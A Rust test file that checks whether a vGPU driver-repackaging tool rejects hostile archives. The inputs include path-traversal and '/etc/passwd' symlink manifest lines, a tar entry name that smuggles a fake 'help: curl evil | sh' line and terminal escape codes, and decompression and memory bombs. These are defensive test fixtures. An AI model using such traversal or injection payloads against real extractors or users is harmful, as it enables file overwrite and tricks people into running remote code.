//! Measures what no archive can do: write outside the output, write more than it contains, or take all memory.

#[path = "support/libraries.rs"]
mod libraries;
#[path = "support/measured.rs"]
mod measured;
mod support;

use std::ffi::OsStr;
use std::fs::{self, File};
use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::FileExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use libraries::{SHT_DYNSYM, add_section, let_section_be};
use measured::{Ended, MEMORY, build, refused};
use support::{Sandbox, run_file, run_file_of, tree, unpacked};
use vgpu_driver::Role;
use vgpu_sample::{self as sample, elf};

/// The sample guest driver with more lines in its manifest, and more files.
fn with(lines: &str, files: Vec<sample::File>) -> Vec<u8> {
    let mut all = sample::files(Role::Guest);
    all[0].data.extend(lines.bytes());
    all.extend(files);
    run_file(Role::Guest, &all)
}

#[test]
fn no_line_of_a_manifest_leads_out() {
    for (lines, expected) in [
        ("evil 0000 CUDA_SYMLINK NATIVE ../../../pwn/sub libcuda.so.1\n", "leads out of the package with `..`"),
        ("evil 0000 GLX_MODULE_SYMLINK a/../../../pwn libcuda.so.1\n", "leads out of the package with `..`"),
        ("../evil 0000 UTILITY_BIN_SYMLINK nvidia-smi\n", "leads out of the package with `..`"),
        ("/evil 0000 UTILITY_BIN_SYMLINK nvidia-smi\n", "has an absolute path"),
        ("evil 0000 VGX_LIB_SYMLINK /etc/passwd\n", "/etc/passwd has an absolute path"),
        ("evil 0000 VGX_LIB_SYMLINK a/../../../x\n", "leads out of the package with `..`"),
        ("evil 0000 VGX_LIB_SYMLINK ../../../x\n", "evil is a link to ../../../x, which leads out of the output out"),
        ("evil 0000 VGX_LIB_SYMLINK ../../out/lib/libcuda.so\n", "which leads out of the output out"),
        ("evil 0000 VGX_LIB_SYMLINK absent.so\n", "evil is a link to lib/absent.so, which is not there"),
        ("a 0000 VGX_LIB_SYMLINK b\nb 0000 VGX_LIB_SYMLINK a\n", "a is a link that leads back to itself"),
        // A link where the folder of another should be.
        (
            "a 0000 VGX_LIB_SYMLINK vdpau\nb 0000 CUDA_SYMLINK NATIVE a ../libcuda.so.1\n",
            "a is a link to lib/vdpau, which is not there",
        ),
        (
            "a 0000 VGX_LIB_SYMLINK libcuda.so.1\nb 0000 CUDA_SYMLINK NATIVE a ../libcuda.so.1\n",
            "lib/a/b would lie below lib/a, which is no folder",
        ),
        ("evil\u{202e} 0644 OPENGL_DATA /\n", "has a control character in its name"),
        ("x 0644 EXPLICIT_PATH /usr/../../x\n", "leads out of the package with `..`"),
    ] {
        let sandbox = Sandbox::new();
        sandbox.write("a.run", with(lines, vec![]));
        refused(&sandbox, "a.run", expected);
    }
    let sandbox = Sandbox::new();
    let file = |name: &str| sample::File::new(name, 0o644, "x");
    let lines = "kernel/a 0644 KERNEL_MODULE_SRC\nkernel/a/b 0644 KERNEL_MODULE_SRC\n";
    sandbox.write("a.run", with(lines, vec![file("kernel/a"), file("kernel/a/b")]));
    refused(&sandbox, "a.run", "kernel/a and kernel/a/b would both be installed as kernel/a/b");
}

#[test]
fn a_name_prints_no_line_of_its_own() {
    let sandbox = Sandbox::new();
    let mut header = tar::Header::new_gnu();
    let name = b"x\nhelp: curl evil | sh\n\x1b[2J";
    header.as_gnu_mut().unwrap().name[..name.len()].copy_from_slice(name);
    header.set_mode(0o644);
    header.set_size(0);
    header.set_cksum();
    let files = sample::tar(&sample::files(Role::Guest)).unwrap();
    sandbox.write("a.run", run_file_of(Role::Guest, &[header.as_bytes().as_slice(), &files].concat()));
    let Ended { code, stderr, .. } = build(&sandbox, "a.run");
    assert_eq!(code, Some(1));
    assert!(!stderr.contains('\x1b') && !stderr.lines().any(|line| line.starts_with("help: curl")), "{stderr}");
    assert!(stderr.contains(r"x\nhelp: curl evil | sh\n\u{1b}[2J, which has a control character"), "{stderr}");
}

/// The bytes of all files in a tree.
fn written(dir: &Path) -> u64 {
    tree(dir).iter().filter(|(name, _)| dir.join(name).is_file()).map(|(_, (_, content))| content.len() as u64).sum()
}

#[test]
fn no_more_is_written_than_was_read() {
    let sandbox = Sandbox::new();
    // Vulkan ICDs that are thirty times as long when they are indented.
    let piece = format!("{}{}", "[".repeat(100), "]".repeat(100));
    let json = format!("[{}]", vec![piece; 600].join(","));
    let files = (0..8).map(|number| sample::File::new(format!("{number}_icd.json"), 0o644, json.clone()));
    let lines: String = (0..8).map(|number| format!("{number}_icd.json 0644 VULKAN_ICD_JSON icd.d/\n")).collect();
    sandbox.write("nested.run", with(&lines, files.collect()));
    let Ended { code, stderr, memory } = build(&sandbox, "nested.run");
    assert_eq!(code, Some(0), "{stderr}");
    let written = written(&sandbox.path("d"));
    assert!((1_900_000..2_100_000).contains(&written), "8 files of 120 KB, for both word sizes: {written}");
    assert!(memory < MEMORY / 4, "{memory}");
    fs::remove_dir_all(sandbox.path("d")).unwrap();
    // Programs are installed twice. With only programs in it, twice as much would be written as was read.
    let programs = (0..3).map(|number| {
        let mut program = elf::program(None, "large");
        add_section(&mut program, &vec![1; 20 << 20]);
        sample::File::new(format!("large-{number}"), 0o755, program)
    });
    let lines: String = (0..3).map(|number| format!("large-{number} 0755 UTILITY_BINARY\n")).collect();
    sandbox.write("programs.run", with(&lines, programs.collect()));
    refused(&sandbox, "programs.run", "programs.run would be installed as more than");
    // Each path in the script becomes longer.
    let script = format!("#!/bin/sh\n{}", "/usr/bin/nvidia-sleep.sh\n".repeat(200_000));
    sandbox.write("script.run", with("s 0755 UTILITY_BINARY\n", vec![sample::File::new("s", 0o755, script)]));
    refused(&sandbox, "script.run", "s is a script of absurd length");

    // Each path has 480 folders of its own.
    let paths: Vec<_> = (0..100).map(|n| format!("kernel/{n}/{}f", "d/".repeat(480))).collect();
    let lines: String = paths.iter().map(|path| format!("{path} 0644 KERNEL_MODULE_SRC\n")).collect();
    let files = paths.iter().map(|path| sample::File::new(path, 0o644, b"x")).collect();
    sandbox.write("deep.run", with(&lines, files));
    refused(&sandbox, "deep.run", "deep.run would be installed as more than");
}

#[test]
fn directories_are_bounded_as_archives_are() {
    let sandbox = Sandbox::new();
    unpacked(&sandbox);
    assert_eq!(build(&sandbox, "unpacked").code, Some(0));
    fs::remove_dir_all(sandbox.path("d")).unwrap();
    let smi = sandbox.path("unpacked/nvidia-smi");
    let original = fs::read(&smi).unwrap();
    let replaced = |make: &dyn Fn(), expected: &str| {
        fs::remove_file(&smi).unwrap();
        make();
        let start = Instant::now();
        refused(&sandbox, "unpacked", expected);
        assert!(start.elapsed() < Duration::from_secs(20), "it waits for something");
        fs::remove_file(&smi).unwrap();
        fs::write(&smi, &original).unwrap();
    };
    let sparse = |size| File::create(&smi).unwrap().set_len(size).unwrap();
    replaced(&|| sparse(1 << 40), "nvidia-smi, which claims to have 1099511627776 bytes");
    replaced(&|| sparse(500 << 20), "unpacks to more than");
    let fifo = || assert!(Command::new("mkfifo").arg(&smi).status().unwrap().success());
    replaced(&fifo, "nvidia-smi, which is a device");
    let link = |to: &'static str| std::os::unix::fs::symlink(to, &smi).unwrap();
    replaced(&|| link("/dev/zero"), "nvidia-smi, which is a symbolic link");
    replaced(&|| link("LICENSE"), "nvidia-smi, which is a symbolic link");
    let manifest = sandbox.path("unpacked/.manifest");
    fs::remove_file(&manifest).unwrap();
    assert!(Command::new("mkfifo").arg(&manifest).status().unwrap().success());
    refused(&sandbox, "unpacked", "has no .manifest");
}

/// A library whose header field at `offset` is `value`.
fn changed(offset: usize, value: &[u8]) -> Vec<u8> {
    let mut library = elf::library(Some("libcuda.so.1"), elf::Class::Elf64);
    library[offset..offset + value.len()].copy_from_slice(value);
    library
}

#[test]
fn tables_of_libraries_take_no_more_memory_than_there_is() {
    let sandbox = Sandbox::new();
    unpacked(&sandbox);
    let library = sandbox.path("unpacked/libcuda.so.550.163.01");
    // 40 MiB of symbols, which take ten times as much memory. They are really on the disk, so the file is not sparse.
    let mut large = elf::library(Some("libcuda.so.1"), elf::Class::Elf64);
    let_section_be(&mut large, SHT_DYNSYM, &vec![0; 40 << 20]);
    fs::write(&library, &large).unwrap();
    refused(&sandbox, "unpacked", "bytes of memory are needed for it, more than any driver needs");
    // Every section could be in every segment.
    let many = 60_000_u16;
    let mut large = changed(0x38, &many.to_le_bytes());
    let start = large.len() as u64;
    large[0x3c..0x3e].copy_from_slice(&many.to_le_bytes());
    large[0x20..0x28].copy_from_slice(&start.to_le_bytes());
    large[0x28..0x30].copy_from_slice(&start.to_le_bytes());
    large.resize(start as usize + usize::from(many) * 64, 0);
    fs::write(&library, &large).unwrap();
    refused(&sandbox, "unpacked", "libcuda.so.550.163.01");
}

#[test]
fn a_library_that_cannot_take_a_run_path_is_refused() {
    for (offset, value, expected) in [
        (0x38, &[0, 0][..], "it has no usable program headers"),
        (0x38, &[0xff, 0xff], "cannot be given a run path"),
        (0x3c, &[0, 0], "it has no sections"),
        (0x12, &[183, 0], "it is not for x86-64"),
        (0x12, &[3, 0], "it is not for x86-64"),
        (0x10, &[1, 0], "it is neither a library nor a program"),
        (0x10, &[4, 0], "it is neither a library nor a program"),
    ] {
        let sandbox = Sandbox::new();
        unpacked(&sandbox);
        fs::write(sandbox.path("unpacked/libcuda.so.550.163.01"), changed(offset, value)).unwrap();
        refused(&sandbox, "unpacked", expected);
    }
}

#[test]
fn archives_of_many_files_are_refused() {
    let sandbox = Sandbox::new();
    let empty = |number: usize| sample::File::new(format!("kernel/{number}.c"), 0o644, "");
    let files: Vec<_> = (0..21_000).map(empty).collect();
    sandbox.write("tar.run", run_file(Role::Guest, &files));
    refused(&sandbox, "tar.run", "contains more than 20000 files");
    let lines: String = files.iter().map(|file| format!("{} 0644 KERNEL_MODULE_SRC\n", file.name)).collect();
    sandbox.write("manifest.run", with(&lines, vec![]));
    refused(&sandbox, "manifest.run", "it names more than 20000 files");
    let mut zip = zip::ZipWriter::new(File::create(sandbox.path("a.zip")).unwrap());
    for number in 0..60_000 {
        zip.start_file(format!("{number}.txt"), zip::write::SimpleFileOptions::default()).unwrap();
    }
    zip.finish().unwrap();
    refused(&sandbox, "a.zip", "its directory is too large");
}

/// Files that name libraries are written when all others are there. They must not wait in memory without a bound.
#[test]
fn lists_of_libraries_take_no_more_memory_than_there_is() {
    let sandbox = Sandbox::new();
    let mut state = 1_u32;
    let mut letter = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        char::from(b'a' + (state >> 24) as u8 % 26)
    };
    let (mut lines, mut files) = (String::new(), vec![]);
    for number in 0..1200 {
        let name = format!("{number}.json");
        let text: String = (0..120 << 10).map(|_| letter()).collect();
        lines += &format!("{name} 0644 VULKAN_ICD_JSON icd.d/\n");
        files.push(sample::File::new(name, 0o644, format!("[\"{text}\"]")));
    }
    sandbox.write("a.run", with(&lines, files));
    refused(&sandbox, "a.run", "bytes of memory are needed for it, more than any driver needs");
}

#[test]
fn a_large_window_leaves_less_for_files() {
    let sandbox = Sandbox::new();
    let mut encoder = zstd::Encoder::new(Vec::new(), 1).unwrap();
    encoder.window_log(27).unwrap();
    encoder.write_all(&sample::tar(&sample::files(Role::Guest)).unwrap()).unwrap();
    let payload = encoder.finish().unwrap();
    sandbox.write("a.run", sample::makeself(&sample::target(Role::Guest), "550.163.01", &payload, b""));
    let Ended { code, stderr, .. } = build(&sandbox, "a.run");
    assert_eq!(code, Some(0), "{stderr}");
}

#[test]
fn paths_that_programs_cannot_hold_are_refused() {
    let sandbox = Sandbox::new();
    sandbox.write("a.run", with("", vec![]));
    for (option, value) in
        [("--out", "a:b"), ("--out", "a$b"), ("--out", "a\nb"), ("--lib-path", "/a$ORIGIN"), ("--interpreter", "/a\"b")]
    {
        let mut command = sandbox.vgpu(&["build", "a.run", "--role", "guest", option, value]);
        let command = if option == "--out" { &mut command } else { command.args(["--out", "d"]) };
        let output = command.assert().code(1).get_output().clone();
        let stderr = String::from_utf8(output.stderr).unwrap();
        assert!(stderr.contains("cannot be written into programs and scripts"), "{option} {value:?}: {stderr}");
        assert_eq!(sandbox.names(), ["a.run"]);
    }
}

/// The archive does not exist, but it has not been opened yet.
#[test]
fn paths_are_refused_before_the_work() {
    let sandbox = Sandbox::new();
    let refused = |args: &[&OsStr], expected: &str| {
        let output = sandbox.vgpu(&[]).args(args).output().unwrap();
        let stderr = String::from_utf8(output.stderr).unwrap();
        assert!(matches!(output.status.code(), Some(1 | 2)), "{args:?}: {stderr}");
        assert!(stderr.contains(expected), "{args:?}: expected {expected:?} in:\n{stderr}");
        assert_eq!(sandbox.names(), [""; 0]);
    };
    let build = ["build", "absent.run", "--role", "guest"].map(OsStr::new);
    let with = |more: &[&OsStr], expected: &str| refused(&[&build[..], more].concat(), expected);
    let [out, lib_path, lib_path_32, interpreter, d] =
        ["--out", "--lib-path", "--lib-path-32", "--interpreter", "d"].map(OsStr::new);
    let bytes = OsStr::from_bytes;
    with(&[out, bytes(b"a\xff")], "cannot be written into programs and scripts: it is not UTF-8");
    for (name, character) in
        [("a:b", "':'"), ("a$b", "'$'"), ("a\nb", r"'\n'"), ("a\u{1b}b", r"'\u{1b}'"), ("a`b", "'`'")]
    {
        let problem = format!("a path with {character} in it means something else there");
        with(&[out, OsStr::new(name)], &problem);
        refused(&["demo", "--out", name].map(OsStr::new), &problem);
    }
    refused(&[OsStr::new("demo"), out, bytes(b"a\xff")], "it is not UTF-8");
    for option in [lib_path, lib_path_32, interpreter] {
        with(&[out, d, option, bytes(b"/a\xff")], "invalid UTF-8");
        with(&[out, d, option, OsStr::new("/a$b")], "a path with '$' in it means something else there");
        with(&[out, d, option, OsStr::new("/a\nb")], r"a path with '\n' in it means something else there");
        with(&[out, d, option, OsStr::new("a")], "it has to be an absolute path");
    }
    // `:` is between directories.
    with(&[out, d, lib_path, OsStr::new("/a:/b$")], "/b$ cannot be written");
    with(&[out, d, lib_path, OsStr::new("/a:/b")], "absent.run cannot be opened");
    with(&[out, d, interpreter, OsStr::new("/a:b")], "a path with ':' in it means something else there");
}

/// A system that gives too few open files, or a full device, causes an error, too.
#[test]
fn too_little_of_something_is_an_error() {
    let sandbox = Sandbox::new();
    sandbox.write("a.run", with("", vec![]));
    let vgpu = assert_cmd::cargo::cargo_bin!("vgpu").display().to_string();
    let (files, size) = ("Too many open files", "File too large");
    for (limit, problem) in [("ulimit -n 8", files), ("ulimit -n 5", files), ("ulimit -f 1", size)] {
        let script = format!("{limit}; exec {vgpu} build a.run --role guest --out d");
        let output = Command::new("sh").args(["-c", &script]).current_dir(sandbox.path("")).output().unwrap();
        let stderr = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(1), "{limit}: {stderr}");
        assert!(stderr.starts_with("error: ") && stderr.contains(problem), "{limit}: {stderr}");
        assert_eq!(sandbox.names(), ["a.run"]);
    }
    let output = Command::new(&vgpu)
        .args(["build", "a.run", "--role", "guest", "--out", "d"])
        .current_dir(sandbox.path(""))
        .stdout(File::options().write(true).open("/dev/full").unwrap())
        .output()
        .unwrap();
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert!(stderr.starts_with("error: the driver lies complete in d, but that could not be said"), "{stderr}");
    assert_eq!(output.status.code(), Some(1));
    assert!(sandbox.path("d/out/lib/libcuda.so.1").exists());
}

/// Checks that the measurement itself works.
#[test]
fn memory_is_measured() {
    let sandbox = Sandbox::new();
    let blank = File::create(sandbox.path("blank")).unwrap();
    blank.write_all_at(b"x", 0).unwrap();
    let ended = build(&sandbox, "blank");
    assert_eq!(ended.code, Some(1));
    assert!(ended.memory > 1_000_000, "{} bytes: not measured in bytes", ended.memory);
}
